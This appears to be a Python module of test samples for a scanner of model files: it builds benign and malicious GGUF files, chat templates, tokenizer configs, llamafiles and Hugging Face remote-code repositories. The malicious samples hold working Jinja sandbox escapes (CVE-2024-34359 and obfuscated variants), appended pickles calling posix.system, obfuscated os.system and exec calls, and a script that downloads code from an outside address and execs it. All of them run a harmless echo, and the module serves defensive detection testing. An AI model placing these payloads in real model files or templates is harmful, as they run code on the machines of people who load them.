"""LLM-era samples (issue 14): GGUF files (a stdlib writer of the format below), chat templates
in GGUF metadata, tokenizer_config.json and template files, benign and malicious.

The template payloads have the exact structure of published Jinja sandbox escapes (the
CVE-2024-34359 llama-cpp-python proof of concept, `cycler`/`lipsum` `__globals__` gadgets, the
usual obfuscations of SSTI write-ups) with the harmless `echo quarantine-sample` command.
Nothing here is ever rendered.
"""

from __future__ import annotations

import io
import json
import struct
import zipfile

CLEAN, SUSPICIOUS, MALICIOUS = "clean", "suspicious", "malicious"

RULES = {
    "GGF001": ("gguf-malformed", SUSPICIOUS),
    "GGF002": ("gguf-bad-layout", SUSPICIOUS),
    "GGF003": ("gguf-trailing-data", SUSPICIOUS),
    "GGF004": ("gguf-legacy-ggml", SUSPICIOUS),
    "GGF005": ("executable-artifact", SUSPICIOUS),
    "HFR001": ("hf-remote-code", SUSPICIOUS),
    "HFR002": ("hf-code-from-other-repo", SUSPICIOUS),
    "HFR003": ("hf-remote-code-malicious", MALICIOUS),
    "HFR004": ("python-script-malicious-behaviour", SUSPICIOUS),
    "HFR005": ("python-unanalysed", SUSPICIOUS),
    "TPL001": ("template-sandbox-escape", MALICIOUS),
    "TPL002": ("template-unparseable", SUSPICIOUS),
    "TPL003": ("template-suspicious-construct", SUSPICIOUS),
}

# Value types of GGUF metadata.
U8, I8, U16, I16, U32, I32, F32, BOOL, STR, ARR, U64, I64, F64 = range(13)
# ggml tensor types used here: (id, block elements, block bytes).
GGML_F32, GGML_F16, GGML_Q8_0 = (0, 1, 4), (1, 1, 2), (8, 32, 34)

CHATML = ("{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + "
          "'<|im_end|>' + '\\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}")
LLAMA3 = ("{% set loop_messages = messages %}{% for message in loop_messages %}{% set content = "
          "'<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'+ message['content'] | trim + "
          "'<|eot_id|>' %}{% if loop.index0 == 0 %}{% set content = bos_token + content %}{% endif %}{{ content }}"
          "{% endfor %}{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}"
          "{% endif %}")
CMD = "echo quarantine-sample"


def gstr(s: str | bytes) -> bytes:
    b = s.encode() if isinstance(s, str) else s
    return struct.pack("<Q", len(b)) + b


def value(vtype: int, v) -> bytes:
    fmt = {U8: "<B", I8: "<b", U16: "<H", I16: "<h", U32: "<I", I32: "<i", F32: "<f", BOOL: "<?",
           U64: "<Q", I64: "<q", F64: "<d"}
    if vtype == STR:
        return gstr(v)
    if vtype == ARR:
        elem, items = v
        return struct.pack("<IQ", elem, len(items)) + b"".join(value(elem, i) for i in items)
    return struct.pack(fmt[vtype], v)


def kv(key: str, vtype: int, v) -> bytes:
    return gstr(key) + struct.pack("<I", vtype) + value(vtype, v)


def pad(n: int, align: int = 32) -> int:
    return (n + align - 1) // align * align


def tensor_blob(tid: int, n: int, nbytes: int) -> bytes:
    """Tensor data that looks like weights (small values around zero) for the float types and
    Q8_0 (an f16 scale of 0.01 per block of 32 int8 values), so that the robustness probe reads
    ordinary weights; a byte pattern for the other types."""
    values = [((i * 7 + 3) % 251 - 125) / 1000 for i in range(n)]
    if tid == 0:
        return struct.pack(f"<{n}f", *values)
    if tid == 1:
        return struct.pack(f"<{n}e", *values)
    if tid == 8:
        return b"".join(struct.pack("<e", 0.01) + bytes((i * 7 + 3) % 64 for i in range(b * 32, b * 32 + 32))
                        for b in range(n // 32))
    return bytes((i * 7 + 3) % 251 for i in range(nbytes))


def gguf(kvs: list[bytes], tensors: list[tuple[str, list[int], tuple, int | None]] = (),
         align: int = 32, version: int = 3, trailing: bytes = b"", counts=None) -> bytes:
    """A GGUF file. `tensors`: (name, dims, ggml type, data offset or None for packed)."""
    infos, blobs, offset = b"", b"", 0
    for name, dims, (tid, block, size), at in tensors:
        n = 1
        for d in dims:
            n *= d
        nbytes = n // block * size
        at = offset if at is None else at
        infos += gstr(name) + struct.pack("<I", len(dims)) + b"".join(struct.pack("<Q", d) for d in dims)
        infos += struct.pack("<IQ", tid, at)
        blob = tensor_blob(tid, n, nbytes)
        blobs += blob + bytes(pad(len(blob), align) - len(blob))
        offset = pad(offset + nbytes, align)
    n_tensors, n_kv = counts or (len(tensors), len(kvs))
    head = b"GGUF" + struct.pack("<IQQ", version, n_tensors, n_kv) + b"".join(kvs) + infos
    return head + bytes(pad(len(head), align) - len(head)) + blobs + trailing


def model_kvs(template: str | None = CHATML, arch: str = "llama", extra: list[bytes] = ()) -> list[bytes]:
    out = [
        kv("general.architecture", STR, arch),
        kv("general.name", STR, "quarantine sample"),
        kv(f"{arch}.context_length", U32, 2048),
        kv(f"{arch}.block_count", U32, 1),
        kv(f"{arch}.embedding_length", U32, 64),
        kv("general.file_type", U32, 7),
        kv("tokenizer.ggml.model", STR, "gpt2"),
        kv("tokenizer.ggml.tokens", ARR, (STR, ["<s>", "</s>", "<|im_start|>", "<|im_end|>", "hello"])),
        kv("tokenizer.ggml.token_type", ARR, (I32, [3, 3, 3, 3, 1])),
    ]
    if template is not None:
        out.append(kv("tokenizer.chat_template", STR, template))
    return out + list(extra)


TENSORS = [("token_embd.weight", [64, 4], GGML_F32, None), ("blk.0.ffn_up.weight", [64, 2], GGML_Q8_0, None),
           ("output_norm.weight", [64], GGML_F16, None)]


def tokenizer_config(template) -> bytes:
    return json.dumps({"add_bos_token": True, "bos_token": "<s>", "eos_token": "</s>",
                       "model_max_length": 2048, "tokenizer_class": "LlamaTokenizer",
                       "chat_template": template}, indent=2).encode()


# The CVE-2024-34359 proof of concept (llama-cpp-python rendered GGUF templates unsandboxed).
CVE_2024_34359 = ("{% for x in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in x.__name__ %}"
                  "{{x()._module.__builtins__['__import__']('os').popen(\"" + CMD + "\").read()}}"
                  "{%endif%}{% endfor %}")
# Names built from pieces and escapes: nothing a text signature sees as `__globals__`.
OBFUSCATED = ("{{ (((cycler|attr('__in' ~ 'it__')|attr('\\x5f\\x5fglo' ~ 'bals\\x5f\\x5f')"
              "|attr('\\x5f\\x5fgeti' + 'tem\\x5f\\x5f'))('o' ~ 's')|attr('po' + 'pen'))('" + CMD + "')"
              "|attr('read'))() }}" + CHATML)
JOINED = ("{%- set g = ['__gl', 'obals__']|join -%}{%- set b = ('__snitliub__'|reverse) -%}"
          "{%- for message in messages %}{{ message.content }}{% endfor -%}"
          "{{ (lipsum|attr(g))[b]['__imp' ~ 'ort__']('o' ~ 's')|attr('%c%c%c%c%c' % (112, 111, 112, 101, 110))('" + CMD + "') }}")
FORMAT_FIELD = "{{ '{0.__class__.__mro__}'.format(messages) }}" + CHATML
LOOP_BUILT = ("{% set ns = namespace(n='') %}{% for c in ['__', 'glo', 'bals', '__'] %}{% set ns.n = ns.n ~ c %}"
              "{% endfor %}{{ lipsum|attr(ns.n)|attr('get')('os')|attr('system')('" + CMD + "') }}" + CHATML)
REQUEST_GADGET = "{{ lipsum|attr(request.args.a)|attr(request.args.b)('os') }}" + CHATML
MAP_ATTRIBUTE = ("{% set f = [joiner]|map(attribute='__init__.__globals__')|first %}"
                 "{{ f.os.popen('" + CMD + "').read() }}" + CHATML)
UNPARSEABLE = "{% for message in messages %}{{ message['content'] }{% endfor %}"


def samples(register) -> None:
    # --- benign ---
    register("benign/llama_chatml.gguf", CLEAN,
             desc="GGUF v3 (llama, F32 + Q8_0 + F16 tensors, gpt2 tokenizer) with the ChatML chat template",
             build=lambda: gguf(model_kvs(), TENSORS))
    register("benign/llama3_named_templates.gguf", CLEAN,
             desc="GGUF v3 carrying the Llama 3 template as default and ChatML as the named template `tool_use`",
             build=lambda: gguf(model_kvs(LLAMA3, extra=[kv("tokenizer.chat_template.tool_use", STR, CHATML),
                                                         kv("tokenizer.chat_templates", ARR, (STR, ["tool_use"]))]),
                                TENSORS))
    register("benign/gguf_v1_vocab_only.gguf", CLEAN,
             desc="GGUF v1 (32-bit counts and lengths) holding only metadata, no tensors",
             build=lambda: b"GGUF" + struct.pack("<III", 1, 0, 1) + struct.pack("<I", 20)
             + b"general.architecture" + struct.pack("<II", STR, 5) + b"llama")
    register("benign/tokenizer_config.json", CLEAN,
             desc="tokenizer_config.json with the Llama 3 chat template",
             build=lambda: tokenizer_config(LLAMA3))
    register("benign/chat_template.jinja", CLEAN,
             desc="chat_template.jinja (ChatML) using transformers' {% generation %} tag for assistant masks",
             build=lambda: ("{%- for message in messages %}{{ '<|im_start|>' + message['role'] + '\\n' }}"
                            "{%- if message['role'] == 'assistant' %}{% generation %}{{ message['content'] + "
                            "'<|im_end|>' }}{% endgeneration %}{%- else %}{{ message['content'] + '<|im_end|>' }}"
                            "{%- endif %}{{ '\\n' }}{%- endfor %}").encode())

    # --- chat templates ---
    register("malicious/gguf_template_cve_2024_34359.gguf", MALICIOUS, ("TPL001", "__subclasses__"),
             desc="GGUF whose tokenizer.chat_template is the CVE-2024-34359 payload "
                  "(().__class__.__base__.__subclasses__() → warnings.catch_warnings → __import__('os').popen)",
             build=lambda: gguf(model_kvs(CVE_2024_34359), TENSORS))
    register("malicious/gguf_template_obfuscated.gguf", MALICIOUS, ("TPL001", "cycler.__init__.__globals__"),
             desc="GGUF template reaching os.popen through cycler with every name split, concatenated and "
                  "\\x5f-escaped inside |attr() (no signature sees a dunder)",
             build=lambda: gguf(model_kvs(OBFUSCATED), TENSORS))
    register("malicious/gguf_named_template_escape.gguf", MALICIOUS, ("TPL001", "__globals__"),
             desc="GGUF whose default template is benign but the named template tokenizer.chat_template.tool_use "
                  "walks lipsum.__globals__ with names built by join, reverse and %-formatting",
             build=lambda: gguf(model_kvs(CHATML, extra=[kv("tokenizer.chat_template.tool_use", STR, JOINED)]),
                                TENSORS))
    register("malicious/tokenizer_config_ssti.json", MALICIOUS, ("TPL001", "__globals__"),
             desc="tokenizer_config.json with named chat templates, one of which escapes through lipsum "
                  "with join/reverse/%c-built names",
             build=lambda: tokenizer_config([{"name": "default", "template": LLAMA3},
                                             {"name": "tool_use", "template": JOINED}]))
    register("malicious/tokenizer_config_unicode_escaped.json", MALICIOUS, ("TPL001", "__subclasses__"),
             desc="tokenizer_config.json whose template is the CVE-2024-34359 payload with every character "
                  "JSON-escaped as \\uXXXX (the file's text never says __class__)",
             build=lambda: tokenizer_config(CVE_2024_34359).replace(
                 json.dumps(CVE_2024_34359).encode(),
                 ('"' + "".join(f"\\u{ord(c):04x}" for c in CVE_2024_34359) + '"').encode()))
    register("malicious/chat_template_format_field.jinja", MALICIOUS, ("TPL001", "__mro__"),
             desc="chat template reading __class__.__mro__ through a str.format field ('{0.__class__.__mro__}')",
             build=lambda: FORMAT_FIELD.encode())
    register("malicious/chat_template_loop_built.jinja", MALICIOUS, ("TPL001", "__globals__"),
             desc="chat template building `__globals__` in a namespace over a for loop, then lipsum|attr(ns.n)",
             build=lambda: LOOP_BUILT.encode())
    register("malicious/chat_template_map_attribute.jinja", MALICIOUS, ("TPL001", "__init__"),
             desc="chat template reaching joiner.__init__.__globals__ through map(attribute='__init__.__globals__')",
             build=lambda: MAP_ATTRIBUTE.encode())
    register("malicious/chat_template_request_gadget.jinja", MALICIOUS, ("TPL001", "request"),
             desc="chat template taking attribute names from Flask's request.args (the names never appear)",
             build=lambda: REQUEST_GADGET.encode())
    register("malicious/chat_template_padded_name.jinja", MALICIOUS, ("TPL001", "__globals__"),
             desc="chat template padding a plain word into a dunder: \"globals\"|center(11)|replace(\" \", \"_\") "
                  "is __globals__ (str.center puts the odd space on the left)",
             build=lambda: ("{% set g = lipsum|attr(\"globals\"|center(11)|replace(\" \", \"_\")) %}"
                            "{{ g[\"os\"][\"popen\"](\"echo quarantine-sample\")[\"read\"]() }}").encode())
    register("malicious/chat_template_unparseable.jinja", SUSPICIOUS, ("TPL002", "does not parse"),
             desc="chat template with an unclosed expression: what it does cannot be established",
             build=lambda: UNPARSEABLE.encode())

    # --- GGUF structure ---
    register("malicious/gguf_impossible_kv_count.gguf", SUSPICIOUS, ("GGF001", "metadata entries"),
             desc="GGUF header declaring 2^60 metadata entries in a 64-byte file (refused before allocating)",
             build=lambda: gguf(model_kvs(None)[:1], counts=(0, 1 << 60)))
    register("malicious/gguf_huge_string.gguf", SUSPICIOUS, ("GGF001", "needs"),
             desc="GGUF metadata string declaring a length of 2^63 bytes (the llama.cpp gguf_init heap overflow shape)",
             build=lambda: b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + gstr("general.name")
             + struct.pack("<IQ", STR, 1 << 63) + b"abc")
    register("malicious/gguf_deep_arrays.gguf", SUSPICIOUS, ("GGF001", "nested deeper"),
             desc="GGUF metadata value of arrays nested 12 deep",
             build=lambda: gguf([gstr("x") + struct.pack("<I", ARR) + struct.pack("<IQ", ARR, 1) * 11
                                 + struct.pack("<IQ", U8, 1) + b"\x00"]))
    register("malicious/gguf_bad_alignment.gguf", SUSPICIOUS, ("GGF001", "general.alignment"),
             desc="GGUF whose general.alignment is 48 (not a power of two; llama.cpp refuses it)",
             build=lambda: gguf(model_kvs(extra=[kv("general.alignment", U32, 48)]), TENSORS))
    register("malicious/gguf_tensor_out_of_file.gguf", SUSPICIOUS, ("GGF002", "runs past the end"),
             desc="GGUF tensor whose data offset points 1 GiB past the end of the file",
             build=lambda: gguf(model_kvs(), TENSORS[:1] + [("blk.0.ffn_up.weight", [64, 2], GGML_Q8_0, 1 << 30)]))
    register("malicious/gguf_overlapping_tensors.gguf", SUSPICIOUS, ("GGF002", "overlaps"),
             desc="two GGUF tensors sharing the same bytes",
             build=lambda: gguf(model_kvs(), [("a.weight", [64, 4], GGML_F32, 0), ("b.weight", [64, 2], GGML_F32, 512)]))
    register("malicious/gguf_misaligned_tensor.gguf", SUSPICIOUS, ("GGF002", "not a multiple of the alignment"),
             desc="GGUF tensor at a data offset that is not a multiple of the 32-byte alignment",
             build=lambda: gguf(model_kvs(), [("a.weight", [64], GGML_F32, 0), ("b.weight", [8], GGML_F32, 260)]))
    register("malicious/gguf_unknown_type.gguf", SUSPICIOUS, ("GGF002", "unknown ggml type 4"),
             desc="GGUF tensor of the retired ggml type 4 (Q4_2), which current loaders refuse",
             build=lambda: gguf(model_kvs(), [("a.weight", [64], (4, 32, 20), None)]))
    register("malicious/gguf_trailing_pickle.gguf", MALICIOUS, ("GGF003", "follow the last tensor"),
             ("PKL001", "posix.system"),
             desc="GGUF with a pickle calling posix.system appended after the last tensor",
             build=lambda: gguf(model_kvs(), TENSORS, trailing=b"\x80\x02cposix\nsystem\nq\x00X\x15\x00\x00\x00"
                                + CMD.encode() + b"q\x01\x85q\x02Rq\x03."))
    register("malicious/legacy_ggjt.bin", SUSPICIOUS, ("GGF004", "ggjt"),
             desc="pre-GGUF llama.cpp file (ggjt v3 magic and hyper-parameters)",
             build=lambda: b"tjgg" + struct.pack("<I", 3) + struct.pack("<7i", 32000, 4096, 256, 32, 32, 128, 2))

    register("benign/whisper_ggml_tiny.bin", CLEAN,
             desc="whisper.cpp model in the ggml layout convert-pt-to-ggml.py writes (hyperparameters, mel filters, vocabulary, tensors)",
             build=whisper_ggml)
    register("malicious/whisper_ggml_pickle_appended.bin", MALICIOUS, ("GGF001", "whisper.cpp"),
             ("PKL001", "posix.system"),
             desc="whisper.cpp model with a pickle calling posix.system appended after the last tensor",
             build=lambda: whisper_ggml() + b"\x80\x02cposix\nsystem\nq\x00X" + struct.pack("<I", len(CMD))
             + CMD.encode() + b"q\x01\x85q\x02Rq\x03.")

    hf_samples(register)

    # --- executables ---
    register("malicious/tiny.llamafile", SUSPICIOUS, ("GGF005", "Actually Portable Executable"),
             desc="llamafile-shaped APE: the `MZqFpD='` shell/PE header, then a zip holding a stored GGUF model",
             build=lambda: llamafile(gguf(model_kvs(), TENSORS)))
    register("malicious/llamafile_template_escape.llamafile", MALICIOUS, ("TPL001", "__subclasses__"),
             desc="llamafile-shaped APE whose embedded GGUF carries the CVE-2024-34359 chat template",
             build=lambda: llamafile(gguf(model_kvs(CVE_2024_34359), TENSORS)))
    register("malicious/program_with_gguf.elf", SUSPICIOUS, ("GGF005", "ELF"),
             desc="ELF header followed by a GGUF model (an executable carrying weights without a zip)",
             build=lambda: b"\x7fELF\x02\x01\x01" + bytes(57) + gguf(model_kvs(), TENSORS))


def whisper_ggml() -> bytes:
    """A tiny whisper.cpp model as whisper.cpp's convert-pt-to-ggml.py lays it out: the ggml
    magic, eleven int32 hyperparameters (n_vocab 51865, n_audio_ctx 1500, n_text_ctx 448,
    n_mels 80), the mel filter bank, the vocabulary, then tensors (n_dims, name length, type,
    dimensions innermost first, name, data) to the end of the file."""
    out = struct.pack("<I", 0x67676D6C)
    out += struct.pack("<11i", 51865, 1500, 8, 2, 1, 448, 8, 2, 1, 80, 1)
    out += struct.pack("<2i", 2, 4) + bytes(2 * 4 * 4)
    tokens = [b"!", b"hello", b" world"]
    out += struct.pack("<i", len(tokens)) + b"".join(struct.pack("<i", len(t)) + t for t in tokens)
    for name, dims, ftype, item in [(b"encoder.positional_embedding", [8, 4], 0, 4),
                                    (b"encoder.conv1.weight", [3, 80, 8], 1, 2)]:
        out += struct.pack("<3i", len(dims), len(name), ftype) + struct.pack(f"<{len(dims)}i", *dims) + name
        count = 1
        for d in dims:
            count *= d
        out += bytes(count * item)
    return out


def llamafile(model: bytes) -> bytes:
    head = b"MZqFpD='\n\nexec 7<> \"$0\" || exit 121\nprintf 'quarantine sample, not a program\\n'\nexit 1\n"
    head += bytes(-len(head) % 4096)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        info = zipfile.ZipInfo("tiny.gguf", date_time=(2024, 1, 1, 0, 0, 0))
        z.writestr(info, model)
    return head + buf.getvalue()


def hf_config(auto_map: dict, **extra) -> bytes:
    config = {"architectures": ["TinyModel"], "model_type": "tiny", "hidden_size": 64,
              "torch_dtype": "float32", "transformers_version": "4.46.0", "auto_map": auto_map}
    config.update(extra)
    return json.dumps(config, indent=2).encode()


TINY_CONFIGURATION = """from transformers import PretrainedConfig


class TinyConfig(PretrainedConfig):
    model_type = "tiny"

    def __init__(self, hidden_size=64, **kwargs):
        self.hidden_size = hidden_size
        super().__init__(**kwargs)
"""

TINY_MODELING = """import math

import torch
from torch import nn
from transformers import PreTrainedModel

from .configuration_tiny import TinyConfig


class TinyModel(PreTrainedModel):
    config_class = TinyConfig

    def __init__(self, config):
        super().__init__(config)
        self.proj = nn.Linear(config.hidden_size, config.hidden_size)
        self.scale = 1 / math.sqrt(config.hidden_size)

    def forward(self, x):
        return torch.relu(self.proj(x)) * self.scale
"""

SHELLING_MODELING = TINY_MODELING.replace("import math\n", "import base64 as _b\nimport math\n").replace(
    "        super().__init__(config)\n",
    "        super().__init__(config)\n        import os\n"
    "        os.system(_b.b64decode('ZWNobyBxdWFyYW50aW5lLXNhbXBsZQ==').decode())\n")

CHR_EXEC_MODELING = TINY_MODELING + (
    "\n\nexec(''.join(chr(c) for c in [105, 109, 112, 111, 114, 116, 32, 111, 115, 59, 111, 115, 46, 115, 121, "
    "115, 116, 101, 109, 40, 39, 101, 99, 104, 111, 32, 113, 117, 97, 114, 97, 110, 116, 105, 110, 101, 45, 115, "
    "97, 109, 112, 108, 101, 39, 41]))\n")

# The shell call spelled in pieces, as obfuscated remote code does: names built by concatenation,
# join and slicing, reached through __import__ and getattr.
OBFUSCATED_MODELING = TINY_MODELING.replace("import math\n", "import math\n\n_m = __import__('o' + 's')\n").replace(
    "        super().__init__(config)\n",
    "        super().__init__(config)\n"
    "        _run = getattr(_m, ''.join(['sys', 'te']) + 'metsys'[::-1][-1])\n"
    "        _run('echo quarantine-sample')\n")


# Remote code the Python analyser (cargo feature `python`, on by default) judges malicious.
PYTHON_ANALYSER_SAMPLES = (
    ("malicious/hf_remote_code_shell", MALICIOUS, SHELLING_MODELING, (("HFR003", "os.system"),),
     "remote code whose model __init__ runs os.system on a base64-decoded command"),
    ("malicious/hf_remote_code_chr_exec", MALICIOUS, CHR_EXEC_MODELING, (("HFR003", "exec"),),
     "remote code that execs a payload built from chr() codes at module level"),
    ("malicious/hf_remote_code_obfuscated_names", MALICIOUS, OBFUSCATED_MODELING, (("HFR003", "os.system"),),
     "remote code whose model __init__ reaches os.system through __import__('o'+'s') and a getattr name built by join and slicing"),
)


# A script beside a model (nothing loads it) that downloads code and runs it.
DOWNLOAD_AND_RUN_SCRIPT = """import urllib.request

import torch


def main():
    model = torch.load("model.bin", weights_only=True)
    code = urllib.request.urlopen("http://192.0.2.7/update.py").read()
    exec(code)
    print(model)


if __name__ == "__main__":
    main()
"""

# An ordinary training script: reads data, trains, saves.
TRAIN_SCRIPT = """import argparse
import json
import os

import torch
from torch import nn


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--epochs", type=int, default=3)
    parser.add_argument("--out", default="checkpoints")
    args = parser.parse_args()
    os.makedirs(args.out, exist_ok=True)
    model = nn.Linear(16, 2)
    optimiser = torch.optim.SGD(model.parameters(), lr=0.1)
    for epoch in range(args.epochs):
        x = torch.randn(32, 16)
        loss = model(x).pow(2).mean()
        optimiser.zero_grad()
        loss.backward()
        optimiser.step()
        print(json.dumps({"epoch": epoch, "loss": loss.item()}))
    torch.save(model.state_dict(), os.path.join(args.out, "model.pt"))


if __name__ == "__main__":
    main()
"""

# Python 2: CPython 3 refuses it, Python 2 runs it; what it does is not analysed.
PYTHON2_SCRIPT = """import os
import sys

print "converting", sys.argv[1]
exec "import os; os.system('echo quarantine-sample')"
"""


def hf_samples(register) -> None:
    register("benign/train_model.py", CLEAN, desc="an ordinary training script (argparse, torch, json, saves a state dict)",
             build=lambda: TRAIN_SCRIPT.encode())
    register("malicious/download_and_run_script.py", SUSPICIOUS, ("HFR004", "urlopen"),
             desc="a script beside a model that fetches Python from 192.0.2.7 and execs it (not run by loading: capped at suspicious)",
             build=lambda: DOWNLOAD_AND_RUN_SCRIPT.encode())
    register("malicious/python2_script.py", SUSPICIOUS, ("HFR005", "does not parse"),
             desc="a Python 2 script (print and exec statements): Python 3 cannot parse it, so it is reported as not analysed",
             build=lambda: PYTHON2_SCRIPT.encode())
    auto_map = {"AutoConfig": "configuration_tiny.TinyConfig", "AutoModel": "modeling_tiny.TinyModel"}
    for folder, expected, modeling, findings, desc in (
        ("malicious/hf_remote_code_ordinary", SUSPICIOUS, TINY_MODELING, (("HFR001", "modeling_tiny.TinyModel"),),
         "ordinary remote code (torch layers, math): suspicious only, because loading it runs the repository's code"),
    ) + PYTHON_ANALYSER_SAMPLES:
        register(f"{folder}/config.json", expected, *findings, desc=desc,
                 build=lambda: hf_config(auto_map))
        register(f"{folder}/configuration_tiny.py", CLEAN,
                 desc="an ordinary PretrainedConfig subclass", build=lambda: TINY_CONFIGURATION.encode())
        script_findings = (("HFR004", "chr"),) if modeling is CHR_EXEC_MODELING else ()
        register(f"{folder}/modeling_tiny.py", SUSPICIOUS if script_findings else CLEAN, *script_findings,
                 desc="the modelling file on its own (nothing loads it): only exec of decoded data is reported",
                 build=lambda modeling=modeling: modeling.encode())
    register("malicious/hf_hub_kernel_config.json", SUSPICIOUS, ("HFR002", "kernels-community/flash-attn3"),
             ("HFR001", "text_config.trust_remote_code"),
             desc="config naming a Hub kernels repository in _attn_implementation_internal (CVE-2026-4372 shape) "
                  "and setting trust_remote_code in a nested sub-config",
             build=lambda: json.dumps({"model_type": "llava", "_attn_implementation_internal": "kernels-community/flash-attn3",
                                       "text_config": {"model_type": "llama", "trust_remote_code": True}}).encode())
    register("malicious/hf_auto_map_other_repo.json", SUSPICIOUS, ("HFR002", "someone/tiny-code"),
             desc="config whose auto_map loads the model class from another Hub repository (org/repo--module.Class)",
             build=lambda: hf_config({"AutoModel": "someone/tiny-code--modeling_tiny.TinyModel"}))
